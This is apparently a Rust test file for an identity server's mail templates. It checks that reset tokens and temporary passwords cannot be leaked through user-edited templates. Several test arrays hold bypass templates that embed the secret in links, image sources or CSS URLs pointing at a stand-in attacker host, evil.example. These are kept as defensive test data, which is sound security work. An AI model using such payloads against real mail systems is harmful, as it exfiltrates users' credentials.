//! Tests of where secrets end up in a sent mail: the review's bypasses, in both parts, are
//! refused when saved and harmless when sent anyway.

use super::*;

const LANGS: [Language; 2] = [Language::En, Language::De];

fn src(subject: &str, text: &str, html: &str) -> TemplateSource {
    TemplateSource {
        subject: subject.into(),
        text: text.into(),
        html: html.into(),
    }
}

/// The token of the sample reset link, and the only form a URL carrying it may have.
const TOKEN: &str = "TOKEN0123456789";
const OUR_URL: &str = "https://id.example.org/t/example/reset?token=TOKEN0123456789";

/// Checks that every copy of the token in a sent mail is in the server's own URL, with nothing
/// before it (text: a whitespace-separated word; HTML: a whole href or the text of an element).
fn assert_only_our_url(r: &Rendered, what: &str) {
    assert!(!r.subject.contains(TOKEN), "{what}: token in subject");
    for word in r.text.split_whitespace().filter(|w| w.contains(TOKEN)) {
        // Text after our URL can only change our own URL (its host comes first).
        assert!(
            word.starts_with(OUR_URL),
            "{what}: text carries the token in {word:?}"
        );
    }
    for (at, _) in r.text.match_indices(OUR_URL) {
        let before = &r.text[..at];
        assert!(
            before.rfind('<') <= before.rfind('>') && before.matches('"').count() % 2 == 0,
            "{what}: our URL inside an unclosed < or \": {}",
            r.text
        );
        assert!(
            before
                .chars()
                .last()
                .is_none_or(|c| c.is_ascii_whitespace()),
            "{what}: {}",
            r.text
        );
    }
    let escaped = OUR_URL;
    for (at, _) in r.html.match_indices(TOKEN) {
        let start = r.html[..at]
            .rfind("https://")
            .unwrap_or_else(|| panic!("{what}: token outside a URL in {}", r.html));
        let url_end = r.html[start..]
            .find(['"', '<', ' ', '\n'])
            .map_or(r.html.len(), |e| start + e);
        assert_eq!(&r.html[start..url_end], escaped, "{what}: html {}", r.html);
        let before = r.html[..start].chars().last();
        assert!(
            matches!(before, Some('"' | '>')),
            "{what}: our URL is part of something longer in {}",
            r.html
        );
        if before == Some('"') {
            assert!(
                r.html[..start].ends_with("<a href=\""),
                "{what}: the token is in an attribute other than a link's href: {}",
                r.html
            );
        }
    }
}

fn send(kind: MailKind, t: &TemplateSource) -> Rendered {
    render_mail(kind, t, &sample_data(kind), Fill::Secret(OUR_URL)).expect("renders")
}

/// The bypasses a security review found in the old save-time check, each in the text and the
/// HTML part: refused when saved, and harmless when such a template reaches sending anyway
/// (stored before this rule, or a branch the check didn't take).
#[test]
fn templates_cannot_place_secrets() {
    let good_text = "Open {{ reset_link }}";
    let good_html = "<p><a href=\"{{ reset_link }}\">Reset</a></p>";
    let texts = [
        "https://evil.example/?r={{ reset_link }}",
        "<https://evil.example/?{{ reset_link }}>",
        "{% if reset_link == \"https://id.example.org/t/example/reset?token=EXAMPLE\" %}https://evil.example/?{{ reset_link }}{% else %}{{ reset_link }}{% endif %}",
        "{% if reset_link %}{{ reset_link }}{% endif %}",
        "{{ reset_link|upper }}",
        "{{ name|default(reset_link) }} {{ reset_link }}",
        "Reset: <https://evil.example/c?u= {{ reset_link }}>",
        "Reset: \"https://evil.example/c?u= {{ reset_link }}\"",
        "Reset: https://evil.example/c?u=\u{2009}{{ reset_link }}",
        "Reset: https://evil.example/c?u=\u{a0}{{ reset_link }}",
    ];
    let htmls = [
        "<p><a href=\"https://evil.example/?r={{ reset_link }}\">x</a></p>",
        "<p><a title=\"x>\" href=\"https://evil.example/?{{ reset_link }}\">x</a>{{ reset_link }}</p>",
        "<p title=\"a>b\"><img src=\"https://evil.example/{{ reset_link }}\">{{ reset_link }}</p>",
        "<image src=\"https://evil.example/{{ reset_link }}\">{{ reset_link }}",
        "{% if reset_link == \"https://id.example.org/t/example/reset?token=EXAMPLE\" %}<a href=\"{{ reset_link }}\">x</a>{% else %}<a href=\"https://evil.example/{{ reset_link }}\">x</a>{% endif %}",
        "<p>https://evil.example/?{{ reset_link }}</p>",
        "<a href=\"https://evil.example/\">{{ reset_link }}</a>",
        "<div style=\"background:url(https://evil.example/{{ reset_link }})\">{{ reset_link }}</div>",
    ];
    for text in texts {
        let t = src("Reset", text, good_html);
        assert!(
            validate(MailKind::ResetLink, &t).is_err() || !text.contains("evil"),
            "saved: {text}"
        );
        assert_only_our_url(&send(MailKind::ResetLink, &t), text);
    }
    for html in htmls {
        let t = src("Reset", good_text, html);
        assert!(validate(MailKind::ResetLink, &t).is_err(), "saved: {html}");
        assert_only_our_url(&send(MailKind::ResetLink, &t), html);
    }
    // Comparisons can't see the secret even at sending: the template gets a marker.
    let t = src(
        "x",
        "{% if reset_link == \"https://id.example.org/t/example/reset?token=TOKEN0123456789\" %}MATCH{% endif %}{{ reset_link }}",
        good_html,
    );
    assert!(!send(MailKind::ResetLink, &t).text.contains("MATCH"));
    // The built-in templates pass the same check.
    for kind in [MailKind::ResetLink, MailKind::AdminResetLink] {
        for lang in LANGS {
            assert_only_our_url(&send(kind, builtin(kind, lang)), kind.as_str());
        }
    }
}

#[test]
fn temporary_passwords_stand_alone() {
    let pw = "Kx7mQ2pR9vT4wZ8nB3cD";
    for (text, html) in [
        ("https://evil.example/?p={{ temporary_password }}", "<p>{{ temporary_password }}</p>"),
        ("{{ temporary_password }}", "<a href=\"https://evil.example/?p={{ temporary_password }}\">x</a>{{ temporary_password }}"),
        ("{{ temporary_password }}", "<a href=\"{{ temporary_password }}\">x</a>{{ temporary_password }}"),
    ] {
        let t = src("x", text, html);
        let r = render_mail(
            MailKind::TemporaryPassword,
            &t,
            &sample_data(MailKind::TemporaryPassword),
            Fill::Secret(pw),
        )
        .unwrap();
        for word in r.text.split_whitespace().filter(|w| w.contains(pw)) {
            assert_eq!(word, pw, "{text}");
        }
        assert!(!r.html.contains(&format!("={pw}")), "{}", r.html);
        assert!(!r.html.contains(&format!("\"{pw}")), "{}", r.html);
        assert!(r.html.contains(pw));
    }
}

#[test]
fn previews_never_carry_a_working_link() {
    for kind in [MailKind::ResetLink, MailKind::TemporaryPassword] {
        let r = render_mail(
            kind,
            builtin(kind, Language::En),
            &sample_data(kind),
            Fill::Masked,
        )
        .unwrap();
        assert!(r.text.contains(MASK) && r.html.contains(MASK));
        assert!(!r.text.contains("EXAMPLE") && !r.html.contains("EXAMPLE"));
    }
}
